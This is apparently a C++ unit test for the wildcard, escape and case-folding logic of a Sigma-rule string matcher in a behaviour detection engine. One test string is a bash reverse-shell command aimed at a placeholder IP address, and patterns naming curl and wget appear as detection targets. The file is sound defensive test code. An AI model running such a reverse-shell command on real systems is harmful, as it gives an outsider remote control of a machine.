// Sigma string values: wildcards, escapes, case-insensitivity.
#include "pattern.hpp"
#include "sigma_rule_cases.hpp"
#include "sigma_test_util.hpp"
#include "string_matcher.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::Pattern;
using vigil::behavior::sigma::StringMatcher;

namespace {
bool glob(std::string_view pattern, std::string_view text, bool cased = false) {
    StringMatcher m(Pattern::parse(pattern), cased);
    std::string t(text);
    if (!cased)
        for (char& c : t) c = char(std::tolower(static_cast<unsigned char>(c)));
    return m.match(t);
}

// Patterns, texts and whether the pattern matches (case-folded unless cased).
struct GlobCase {
    std::string_view pattern, text;
    bool cased, matches;
};
constexpr bool kCased = true, kAnyCase = false, kMatch = true, kNoMatch = false;
const GlobCase kGlobs[] = {
    // star and question mark
    {"/usr/bin/python*", "/usr/bin/python3.11", kAnyCase, kMatch},
    {"*/python3", "/usr/bin/python3", kAnyCase, kMatch},
    {"*bash -i*", "/bin/bash -i >& /dev/tcp/1.2.3.4/80", kAnyCase, kMatch},
    {"/tmp/?", "/tmp/x", kAnyCase, kMatch},
    {"/tmp/?", "/tmp/xy", kAnyCase, kNoMatch},
    {"/tmp/?", "/tmp/", kAnyCase, kNoMatch},
    {"a*b*c", "aXXbYYbZZc", kAnyCase, kMatch},
    {"a*b?d", "abbbcd", kAnyCase, kMatch},
    {"a*b*c", "aXXbYY", kAnyCase, kNoMatch},
    {"*", "", kAnyCase, kMatch},
    {"*", "anything", kAnyCase, kMatch},
    {"", "", kAnyCase, kMatch},
    {"", "x", kAnyCase, kNoMatch},
    {"**x**", "..x..", kAnyCase, kMatch},
    // a question mark matches one UTF-8 character
    {"caf?", "caf\xC3\xA9", kAnyCase, kMatch},  // é is two bytes
    {"*?\xE2\x82\xAC", "x\xE2\x82\xAC", kAnyCase, kMatch},  // then a literal euro sign
    {"caf?", "caf\xC3\xA9x", kAnyCase, kNoMatch},
    // matching is case-insensitive unless cased
    {"/USR/BIN/Curl", "/usr/bin/curl", kAnyCase, kMatch},
    {"*WGET*", "/usr/bin/wget -q", kAnyCase, kMatch},
    {"/USR/BIN/Curl", "/usr/bin/curl", kCased, kNoMatch},
    {"/usr/bin/Curl", "/usr/bin/Curl", kCased, kMatch},
    // escapes: \* and \? are literal characters
    {"a\\*b", "a*b", kAnyCase, kMatch},
    {"a\\*b", "aXXb", kAnyCase, kNoMatch},
    {"what\\?", "what?", kAnyCase, kMatch},
    {"what\\?", "whatx", kAnyCase, kNoMatch},
    // \\ is one backslash; \\* a backslash followed by a wildcard
    {"c:\\\\x", "c:\\x", kAnyCase, kMatch},
    {"dir\\\\*", "dir\\anything", kAnyCase, kMatch},
    {"dir\\\\*", "dirXanything", kAnyCase, kNoMatch},
    // \\\* : a backslash then a literal star
    {"a\\\\\\*", "a\\*", kAnyCase, kMatch},
    {"a\\\\\\*", "a\\xyz", kAnyCase, kNoMatch},
    // \\\\ is two backslashes
    {"\\\\\\\\srv", "\\\\srv", kAnyCase, kMatch},
    // A backslash before an ordinary character stays a backslash.
    {"C:\\Windows", "c:\\windows", kAnyCase, kMatch},
    // A trailing lone backslash is literal.
    {"end\\", "end\\", kAnyCase, kMatch},
};

}  // namespace

// Star and question mark (one UTF-8 character), case-insensitive unless cased, escapes.
TEST_CASE("behavior_sigma_wildcard: rule cases (sigma_cases/wildcard.yaml)") { check_rule_cases("wildcard.yaml"); }

TEST_CASE("behavior_sigma_wildcard: star, question mark, case and escapes") {
    for (const GlobCase& g : kGlobs) {
        CAPTURE(g.pattern);
        CAPTURE(g.text);
        CHECK(glob(g.pattern, g.text, g.cased) == g.matches);
    }
}

